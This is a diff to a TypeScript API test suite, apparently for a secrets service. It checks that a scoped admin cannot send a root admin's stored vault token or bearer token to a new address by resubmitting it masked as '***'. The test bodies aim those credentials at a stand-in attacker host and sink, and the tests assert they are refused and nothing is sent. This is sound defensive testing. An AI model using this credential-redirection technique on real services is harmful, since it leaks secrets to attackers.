@@ -40,6 +40,9 @@ const CANARY = {
   shared: canary('shared'),
   /** What the metadata stand-in answers: an instance role's credentials. */
   metadata: canary('metadata'),
+  /** A store credential and a connection literal a root admin set, which no API reply shows. */
+  keptCredential: canary('keptcred'),
+  keptLiteral: canary('keptlit'),
 };
 
 let t: TestServer;
@@ -822,6 +825,120 @@ describe('exfiltration paths found by the audit', () => {
     } finally {
       await agent.close();
     }
+  });
+});
+
+describe('credentials kept with "***" when a destination changes', () => {
+  let scopedAdmin: string;
+  const sent = (value: string) => sink.requests.filter((r) => JSON.stringify(r.headers).includes(value));
+
+  beforeAll(async () => {
+    scopedAdmin = await tokenFor(t, 'admin', 'acme', true);
+  });
+
+  it('a store credential set by a root admin does not follow an address a scoped admin chose: 403, nothing sent', async () => {
+    const address = 'https://203.0.113.10:8200';
+    const created = await call(t, 'POST', '/api/v1/stores', {
+      token: rootAdmin,
+      body: {
+        name: 'kept',
+        namespace: 'acme',
+        type: 'vault',
+        settings: { address, auth: { method: 'token', token: CANARY.keptCredential } },
+      },
+    });
+    expect(created.status, created.text).toBe(201);
+    const moved = {
+      type: 'vault',
+      settings: { address: `http://${ATTACKER}:${sink.port}`, auth: { method: 'token', token: '***' } },
+    };
+
+    // Tested without saving, then saved: both would send the stored token to the new address.
+    const tested = await call(t, 'POST', '/api/v1/stores/kept/test?namespace=acme', {
+      token: scopedAdmin,
+      body: moved,
+    });
+    expectRefused(tested, 'forbidden_destination');
+    expect(tested.body.error.message).toContain('auth.token');
+    expect(tested.body.error.message).toMatch(/give (it|them) again/);
+    const update = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
+      token: scopedAdmin,
+      body: moved,
+    });
+    expectRefused(update, 'forbidden_destination');
+    expect(sent(CANARY.keptCredential)).toEqual([]);
+
+    // The same address with another setting changed keeps the credential where it went before.
+    const same = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
+      token: scopedAdmin,
+      body: { type: 'vault', settings: { address, mount: 'kv', auth: { method: 'token', token: '***' } } },
+    });
+    expect(same.status, same.text).toBe(200);
+    // A credential given again goes where its giver chose.
+    const given = await call(t, 'PUT', '/api/v1/stores/kept?namespace=acme', {
+      token: scopedAdmin,
+      body: {
+        type: 'vault',
+        settings: {
+          address: moved.settings.address,
+          auth: { method: 'token', token: 'the-scoped-admins-own-token' },
+        },
+      },
+    });
+    expect(given.status, given.text).toBe(200);
+  });
+
+  it('a connection literal set by a root admin does not follow a baseUrl a scoped admin chose: 403, nothing sent', async () => {
+    const created = await call(t, 'POST', '/api/v1/connections', {
+      token: rootAdmin,
+      body: {
+        name: 'kept-literal',
+        namespace: 'acme',
+        type: 'http',
+        fields: {
+          baseUrl: 'https://203.0.113.10/api',
+          auth: { method: 'bearer', token: CANARY.keptLiteral },
+        },
+      },
+    });
+    expect(created.status, created.text).toBe(201);
+    const update = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
+      token: scopedAdmin,
+      body: {
+        type: 'http',
+        fields: { baseUrl: `http://${ATTACKER}:${sink.port}/kept`, auth: { method: 'bearer', token: '***' } },
+      },
+    });
+    expectRefused(update, 'forbidden_destination');
+    expect(update.body.error.message).toContain('auth.token');
+    const tested = await call(t, 'POST', '/api/v1/connections/kept-literal/test?namespace=acme', {
+      token: scopedAdmin,
+    });
+    expectNoCanary(tested);
+    expect(sent(CANARY.keptLiteral)).toEqual([]);
+
+    // Another path on the same origin, or a header added: the literal goes where it went before.
+    const same = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
+      token: scopedAdmin,
+      body: {
+        type: 'http',
+        fields: {
+          baseUrl: 'https://203.0.113.10/v2',
+          headers: { 'X-Team': 'a' },
+          auth: { method: 'bearer', token: '***' },
+        },
+      },
+    });
+    expect(same.status, same.text).toBe(200);
+    // A root admin may send it anywhere (it chose the destination of everything in the config).
+    const root = await call(t, 'PUT', '/api/v1/connections/kept-literal?namespace=acme', {
+      token: rootAdmin,
+      body: {
+        type: 'http',
+        fields: { baseUrl: 'https://203.0.113.11/api', auth: { method: 'bearer', token: '***' } },
+      },
+    });
+    expect(root.status, root.text).toBe(200);
   });
 });
 
